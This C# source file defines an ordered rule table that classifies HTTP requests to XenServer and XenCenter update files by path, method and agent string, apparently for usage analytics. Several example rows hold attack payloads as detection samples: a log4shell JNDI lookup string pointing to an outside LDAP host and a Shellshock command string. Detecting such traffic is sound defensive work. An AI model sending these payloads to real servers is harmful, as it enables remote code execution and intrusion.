using Pipeline.Core.Contracts;
using Pipeline.Ingest.Shard;

namespace Pipeline.Ingest.Classification;

/// <summary>
/// The one place where requests are told apart (docs/classification.md is written from it). A well-formed request has the first rule that
/// fits. In four parts, as rule 30 orders the reasons:
/// agents' lists, other methods than GET, XenCenter's file, and every other path. Each part ends with a rule that fits all that is left of
/// it, so every request has one.
/// Records are told apart by <see cref="Classifier"/> alone, fast; tests compare it with this table.
/// </summary>
public static class RuleTable
{
    private const string Center = "2025.2.0.8315 (64-bit)", Firefox =
        "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0";

    /// <summary>In order: the first that fits.</summary>
    public static IReadOnlyList<Rule> All { get; } =
    [
        // 1. Management Agents. The path decides, whatever the client: agents before 2017 have no name, those of 9.x an unknown one, and
        // nobody else asks for these lists but to install agents.
        Agents("agent-tsv", "Management Agents of XenServer 6.5 and the first 7.0", KnownPaths.ListFirst, "win-xenguestagent, branding.py",
            new("/updates.tsv", "Citrix XenServer AutoUpdate")),
        Agents("agent-2-tsv", "Management Agents of 7.0 to 8.2", KnownPaths.List2, "win-installer from Dundee on",
            new("/updates.2.tsv", "Citrix XenServer AutoUpdate", Query: "id=1a2b")),
        Agents("agent-v2-tsv", "Management Agents without branding", KnownPaths.ListV2, "the default in win-xenguestagent's code",
            new("/updates.v2.tsv", "Citrix XenServer AutoUpdate")),
        Agents("agent-latest-tsv", "VM Tools 9.x", KnownPaths.ListLatest, "deployment scripts in public use",
            new("/updates.latest.tsv", "-")),
        Agents("agent-version-json", "VM Tools 9.x, which name their own version", KnownPaths.AgentList,
            "Chocolatey's scripts; the version is not declared and is dropped", new("/updates.9.3.2.110.json", "choco-install")),

        // 2. Another method than GET: no client of either file uses one.
        new() { Name = "not-get-head", Population = "monitors that ask for an update file without its content", Path = KnownPaths.Updates,
            Methods = Methods.Head, Reason = Reason.NotGet, Why = "XenCenter and the agents always use GET (xenadmin, win-xenguestagent)",
            Example = new("/xc/XCUpdates.xml", "UptimeRobot/2.0", "HEAD") },
        new() { Name = "not-get-post", Population = "whoever posts to an update file", Path = KnownPaths.Updates, Methods = Methods.Post,
            Reason = Reason.NotGet, Why = "XenCenter and the agents always use GET, whatever name is given",
            Example = new("/xc/XCUpdates.xml", "XenCenter/" + Center, "POST") },
        new() { Name = "not-get-other", Population = "whoever uses another method on an update file", Path = KnownPaths.Updates,
            Methods = Methods.Other, Reason = Reason.NotGet, Why = "methods are case-sensitive: `get` is one of these",
            Example = new("/updates.2.tsv", "-", "OPTIONS") },

        // 3. XenCenter's update file, by who says who it is. The folder is a secret of XenCenter's build: only the file's name counts.
        Centers("xencenter-2023", "XenCenter 2023 and later, for itself", KnownPaths.File2023, KnownClients.XenCenter,
            "CP-42186 renamed the file in 2023-02; the version is in the agent string only",
            new("/xc/XCUpdates.xml", "XenCenter/" + Center)),
        Centers("xencenter-2022", "XenCenter of 2022", KnownPaths.File2022, KnownClients.XenCenter,
            "the file's name from 2022-03 to 2023-02", new("/xc/CHCUpdates.xml", "XenCenter/8.2.7.12 (64-bit)")),
        Centers("xencenter-updates-xml", "XenCenter 7.2 to 8.2; XenCenter of any age that asks for server updates", KnownPaths.FileOfAll,
            KnownClients.XenCenter, "one check may ask for two files: counts are of checks, not of installations",
            new("/XenServer/updates.xml", "XenCenter/7.6.0.1634 (32-bit)")),
        Centers("xencenter-unbranded", "developers' builds of XenCenter", KnownPaths.XenCenterFile, KnownClients.Unbranded,
            "the placeholder `[XenCenter]` is replaced when a release is built", new("/xc/XCUpdates.xml", "[XenCenter]/0.0.0.0 (64-bit)")),
        Others("xencenter-bad-version", "XenCenter by its name, with a version that no build has", Reason.BadVersion,
            KnownClients.XenCenterName, "builds always have four numbers; what has another shape cannot be counted under a version",
            new("/xc/XCUpdates.xml", "XenCenter/8.2 (64-bit)")) with { Shape = Shaped.Agent },
        new() { Name = "nameless-updates-xml",
            Population = "XenCenter before 7.2, Xen Orchestra before 2026-08, and scripts: nothing tells them apart",
            Path = KnownPaths.FileOfAll, Agent = KnownClients.Nameless, Reason = Reason.NoAgentString,
            Why = "XenCenter before 7.2 sends no agent string, and neither do .NET's WebClient and http-request-plus: never a guess",
            Example = new("/XenServer/updates.xml", "-") },
        Others("nameless-new-file", "scripts without a name", Reason.NoAgentString, KnownClients.Nameless,
            "no XenCenter without a name knows the files of 2022 and later", new("/xc/XCUpdates.xml", "-")),
        Others("client-attack", "attackers who hide a command in their name", Reason.OtherClient, KnownClients.Attack,
            "log4shell and its kin", new("/xc/XCUpdates.xml", "${jndi:ldap://203.0.113.66/a}")),
        Others("client-xcp-ng-center", "XCP-ng Center", Reason.OtherClient, KnownClients.XcpNgCenter,
            "a fork of XenCenter that asked for the same file (xcp-ng/xenadmin, issue 183)",
            new("/XenServer/updates.xml", "XCP-ng Center/20.03.0.29 (64-bit)")),
        Others("client-citrix-hypervisor-center", "Citrix Hypervisor Center, if there is one", Reason.OtherClient,
            KnownClients.CitrixHypervisorCenter,
            "that a build of 2022 called itself so is an inference, and no sample shows it: counted here, and never guessed to be " +
            "XenCenter; once it is known, a redrive makes records of these",
            new("/xc/CHCUpdates.xml", "Citrix Hypervisor Center/8.2.7.12 (64-bit)")),
        Others("client-xen-orchestra", "Xen Orchestra", Reason.OtherClient, KnownClients.Orchestra,
            "it asks whenever its page of patches is opened; `node` is the name of its runtime, and others have the same",
            new("/xenserver/updates.xml", "node")),
        Others("client-management-agent", "Management Agents", Reason.OtherClient, KnownClients.ManagementAgent,
            "an agent whose update_url was pointed at the wrong file", new("/XenServer/updates.xml", "Citrix XenServer AutoUpdate")),
        Others("client-script", "scripts and programs: curl, wget, Python, Go, Java, PowerShell, Chocolatey …", Reason.OtherClient,
            KnownClients.Script, "seen in public code that reads the file", new("/xenserver/updates.xml", "curl/8.5.0")),
        Others("client-monitor", "monitors: App Service's AlwaysOn, Pingdom, UptimeRobot, load balancers …", Reason.OtherClient,
            KnownClients.Monitor, "their vendors' documentation", new("/xc/XCUpdates.xml",
            "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)")),
        Others("client-scanner", "scanners of the whole internet, and of weaknesses", Reason.OtherClient, KnownClients.Scanner,
            "they name themselves", new("/xc/XCUpdates.xml", "Mozilla/5.0 zgrab/0.x")),
        Others("client-crawler", "search engines and archives", Reason.OtherClient, KnownClients.Crawler,
            "`compatible;` is how robots that call themselves Mozilla say that they are robots",
            new("/xc/XCUpdates.xml", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")),
        Others("client-browser", "people, or whoever looks like them", Reason.OtherClient, KnownClients.Browser,
            "XenCenter never calls itself Mozilla, not even where its name stands behind", new("/xc/XCUpdates.xml", Firefox)),
        Others("client-unknown", "nobody knows", Reason.OtherClient, Term.Any, "the shape of the agent string is counted",
            new("/xc/XCUpdates.xml", "Acme Inventory/4.2 (fleet)")) with { Shape = Shaped.Agent },

        // 4. Every other path.
        Elsewhere("path-attack", "attacks: a way out of the folder, forgotten files, programs of other sites, commands", KnownPaths.Attack,
            "what the public lists of attacks have", new("/wp-login.php", "Mozilla/5.0 zgrab/0.x")),
        new() { Name = "path-attack-query", Population = "attacks in a query", Query = KnownPaths.AttackQuery, Methods = Methods.Any,
            Reason = Reason.OtherPath, Why = "as above", Example = new("/", "-", Query: "x=${jndi:ldap://203.0.113.66/a}") },
        new() { Name = "path-attack-agent", Population = "attacks in an agent string", Agent = KnownClients.Attack, Methods = Methods.Any,
            Reason = Reason.OtherPath, Why = "as above", Example = new("/", "() { :;}; /bin/cat") },
        Elsewhere("path-download-xencenter", "downloads of XenCenter and its source", KnownPaths.XenCenterDownload,
            "they lie beside the update file (xenadmin-build.ps1), and XenCenter fetches them without a name: no checks",
            new("/xc/XenCenter.msi", "-")),
        Elsewhere("path-download-agent", "downloads of agents and drivers", KnownPaths.AgentDownload, "the agents' list names them",
            new("/managementagentx64.msi", "Citrix XenServer AutoUpdate")),
        Elsewhere("path-download-other", "other downloads", KnownPaths.OtherDownload, "programs and images are no update checks",
            new("/files/XS82E001.zip", Firefox)),
        Elsewhere("path-agent-directory", "Management Agents before 2016", KnownPaths.OldDirectory,
            "they read a listing of `/XenServer/WinGuestAgent/Latest/` (win-xenguestagent, pre-dundee): no declared file; counted, so " +
            "that it is seen whether any are left", new("/XenServer/WinGuestAgent/Latest/", "-")),
        Elsewhere("path-unknown-update-file", "something like an update file, and none that is known", KnownPaths.AlmostUpdates,
            "a new generation of clients would be seen here first; the shape of the path is counted",
            new("/updates.3.tsv", "-")) with { Shape = Shaped.Path },
        Elsewhere("path-health", "health checks", KnownPaths.Health, "`robots933456.txt` is App Service's",
            new("/healthz", "kube-probe/1.29")),
        Elsewhere("path-site-file", "probes: the site itself, its icon, what robots may do", KnownPaths.SiteFiles,
            "browsers, robots and monitors ask any site for these", new("/favicon.ico", Firefox)),
        Named("path-monitor", "monitors, on any other path", KnownClients.Monitor, new("/xc/index.html", "AlwaysOn")),
        Named("path-scanner", "scanners, on any other path", KnownClients.Scanner, new("/xc/index.html", "zgrab/0.x")),
        Named("path-crawler", "search engines and archives, on any other path", KnownClients.Crawler,
            new("/xc/index.html", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)")),
        Elsewhere("path-unknown", "nobody knows", Term.Any, "the shape of the path is counted",
            new("/xc/index.html", Firefox)) with { Shape = Shaped.Path },
    ];

    private static Rule Agents(string name, string population, Term path, string why, Example example) =>
        new() { Name = name, Population = population, Path = path, Dataset = PublishedContracts.AgentUpdates.Dataset, Why = why,
            Example = example };

    private static Rule Centers(string name, string population, Term path, Term agent, string why, Example example) =>
        new() { Name = name, Population = population, Path = path, Agent = agent, Dataset = PublishedContracts.XenCenterChecks.Dataset,
            Why = why, Example = example };

    private static Rule Others(string name, string population, Reason reason, Term agent, string why, Example example) =>
        new() { Name = name, Population = population, Path = KnownPaths.XenCenterFile, Agent = agent, Reason = reason, Why = why,
            Example = example };

    private static Rule Elsewhere(string name, string population, Term path, string why, Example example) =>
        new() { Name = name, Population = population, Path = path, Methods = Methods.Any, Reason = Reason.OtherPath, Why = why,
            Example = example };

    private static Rule Named(string name, string population, Term agent, Example example) =>
        new() { Name = name, Population = population, Agent = agent, Methods = Methods.Any, Reason = Reason.OtherPath,
            Why = "they name themselves; the path is not counted", Example = example };
}
